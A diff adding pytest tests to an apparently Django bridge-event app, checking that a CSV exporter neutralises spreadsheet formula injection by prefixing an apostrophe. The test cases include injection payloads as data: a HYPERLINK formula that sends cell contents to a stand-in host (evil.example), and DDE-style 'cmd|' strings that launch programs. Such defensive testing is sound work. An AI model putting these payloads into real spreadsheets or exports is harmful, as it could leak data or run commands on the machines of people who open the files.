@@ -6,9 +6,9 @@ import pytest
 from django.core.management import CommandError, call_command
 from django.urls import reverse
 
-from events.formats.csv_export import results_csv, travellers_csv
+from events.formats.csv_export import results_csv, spreadsheet_safe, travellers_csv
 from events.importer import import_travellers
-from events.models import Result
+from events.models import Pair, Result
 from events.standings import event_standings
 from tests.events.test_importer import HEADER, THREE_TABLES
 
@@ -221,3 +221,46 @@ def test_an_unpublished_sessions_csvs_are_hidden_from_a_stranger(
     mitchell_session.published = True
     mitchell_session.save()
     assert client.get(reverse(name, args=[mitchell_session.pk])).status_code == 200
+
+
+# CSV injection (OWASP, "CSV Injection"): a cell starting with = + - @ tab or carriage return is
+# run as a formula by spreadsheets, so text cells get a leading apostrophe; numbers must not.
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        (
+            '=HYPERLINK("http://evil.example","Click")',
+            '\'=HYPERLINK("http://evil.example","Click")',
+        ),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-420", "-420"),
+        ("+1", "+1"),
+        ("-0.50", "-0.50"),
+        ("=", "="),  # the result column's "made exactly": no formula in it
+        (-420, -420),
+        ("Ann Smith", "Ann Smith"),
+        ("50% +620 + 50% -100", "50% +620 + 50% -100"),
+    ],
+)
+def test_cells_a_spreadsheet_would_run_get_an_apostrophe(cell, written):
+    assert spreadsheet_safe(cell) == written
+
+
+def test_a_formula_for_a_name_is_written_as_text_and_scores_stay_numbers(db, tmp_path):
+    path = tmp_path / "imps.csv"
+    path.write_text(CROSS_IMPS)
+    out, _ = run("import_travellers", str(path), "--name", "IMPs", "--scoring", "cross-imps")
+    event_id = int(out.strip().splitlines()[-1])
+    Pair.objects.filter(section__event_id=event_id, number=2, direction="NS").update(
+        player1='=HYPERLINK("http://evil.example/?"&A1,"Click")', player2="@Bob"
+    )
+    out, _ = run("export_results", str(event_id), "--format", "csv")
+    lines = out.splitlines()
+    assert lines[2] == (
+        'A,NS,2,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"") & @Bob",2,-11.00,,-5.50,2,'
+    )
+    assert lines[4] == "A,EW,2,,2,-13.00,,-6.50,2,"
